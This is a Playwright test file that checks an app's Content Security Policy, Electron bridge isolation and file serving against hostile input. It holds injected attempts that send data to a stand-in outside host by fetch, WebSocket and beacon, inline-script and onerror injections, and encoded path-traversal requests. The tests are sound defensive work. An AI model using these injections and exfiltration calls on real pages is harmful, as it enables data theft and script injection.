// What a hostile text or a bug in the page could try, on both hosts: reach outside, run what is not ours, read files.
import type { Page } from '@playwright/test'
import { expect, test } from './app.ts'

const OUTSIDE = 'https://sop-wijzer-outside.invalid'

/** Runs work in the page and gives the content policy's directives that it ran into. */
async function violations(page: Page, attempt: string): Promise<readonly string[]> {
  await page.evaluate(() => {
    const seen: string[] = []
    Object.assign(window, { seen })
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => seen.push(effectiveDirective))
  })
  await page.evaluate(attempt)
  await page
    .waitForFunction(() => (window as unknown as { seen: string[] }).seen.length > 0, undefined, { timeout: 5_000 })
    .catch(() => undefined)
  return page.evaluate(() => [...new Set((window as unknown as { seen: string[] }).seen)])
}

const attempts: readonly (readonly [what: string, directive: string, attempt: string])[] = [
  ['a request to outside', 'connect-src', `void fetch('${OUTSIDE}/').catch(() => undefined)`],
  ['a web socket', 'connect-src', `try { new WebSocket('wss://sop-wijzer-outside.invalid') } catch {}`],
  ['a beacon', 'connect-src', `navigator.sendBeacon('${OUTSIDE}/', 'text of the school')`],
  [
    'a picture from outside',
    'img-src',
    `document.body.append(Object.assign(new Image(), { src: '${OUTSIDE}/x.png' }))`
  ],
  [
    'a script from outside',
    'script-src-elem',
    `document.body.append(Object.assign(document.createElement('script'), { src: '${OUTSIDE}/x.js' }))`
  ],
  [
    'a script in the page',
    'script-src-elem',
    `document.body.append(Object.assign(document.createElement('script'), { textContent: 'window.ran = true' }))`
  ],
  [
    'a script on an element',
    'script-src-attr',
    `document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="window.ran = true">')`
  ],
  ['a text that is run as script', 'script-src', `setTimeout("window.ran = true")`],
  [
    'a style sheet from outside',
    'style-src-elem',
    `document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: '${OUTSIDE}/x.css' }))`
  ],
  [
    'a style sheet in the page',
    'style-src-elem',
    `document.head.append(Object.assign(document.createElement('style'), { textContent: 'body { display: none }' }))`
  ],
  [
    'a page in the page',
    'frame-src',
    `document.body.append(Object.assign(document.createElement('iframe'), { src: '${OUTSIDE}/' }))`
  ],
  [
    'an embedded object',
    'object-src',
    `document.body.append(Object.assign(document.createElement('embed'), { src: '${OUTSIDE}/x' }))`
  ],
  ['a worker made from text', 'worker-src', `try { new Worker(URL.createObjectURL(new Blob(['1']))) } catch {}`],
  [
    'another base for addresses',
    'base-uri',
    `document.head.append(Object.assign(document.createElement('base'), { href: '${OUTSIDE}/' }))`
  ],
  [
    'a form that sends',
    'form-action',
    `(() => { const form = Object.assign(document.createElement('form'), { action: '${OUTSIDE}/' }); document.body.append(form); form.submit() })()`
  ]
]

test('the content policy stops everything that is not ours', async ({ app }, info) => {
  // Each attempt shows in the console, as it should.
  info.annotations.push(
    { type: 'expected-complaint', description: 'Content Security Policy' },
    { type: 'expected-complaint', description: 'sop-wijzer-outside.invalid' }
  )
  const { page } = await app.start()
  const address = page.url()
  for (const [what, directive, attempt] of attempts) {
    expect.soft(await violations(page, attempt), what).toContain(directive)
  }
  expect(await page.evaluate(() => 'ran' in window), 'nothing of it ran').toBe(false)
  expect(page.url()).toBe(address)
})

test('the page is not Node: it has the contract and nothing else', async ({ app }) => {
  const { page } = await app.start()
  const names = ['process', 'require', 'module', 'Buffer', 'global', 'electron', '__dirname']
  expect(await page.evaluate((all) => all.filter((name) => name in window), names)).toEqual([])
  const bridge = await page.evaluate(() => {
    const given = (window as unknown as { sopWijzer?: object }).sopWijzer
    return given === undefined ? [] : [...Object.keys(given), Object.isFrozen(given)]
  })
  expect(bridge).toEqual(app.kind === 'electron' ? ['request', 'listen', true] : [])
})

test('no file outside the window’s own is read, and every answer forbids guessing its kind', async ({ app }, info) => {
  info.annotations.push(
    { type: 'expected-complaint', description: '404' },
    { type: 'expected-complaint', description: 'Failed to load resource' }
  )
  const { page } = await app.start()
  const places = [
    '/main.js',
    '/../main.js',
    '/%2e%2e/main.js',
    '/..%2f..%2fpackage.json',
    '/assets/..%5c..%5cmain.js',
    '/.window.sha256',
    '//main.js'
  ]
  const statuses = await page.evaluate(
    (all) =>
      Promise.all(
        all.map(
          async (place) =>
            (await fetch(location.origin === 'null' ? `app://sop-wijzer${place}` : `${location.origin}${place}`)).status
        )
      ),
    places
  )
  expect(statuses).toEqual(places.map(() => 404))
  const headers = await page.evaluate(async () =>
    Object.fromEntries((await fetch(location.href.split('#')[0] ?? '')).headers)
  )
  expect(headers).toMatchObject({
    'x-content-type-options': 'nosniff',
    'referrer-policy': 'no-referrer',
    'cross-origin-opener-policy': 'same-origin'
  })
  expect(headers['content-security-policy']).toContain("default-src 'none'")
})
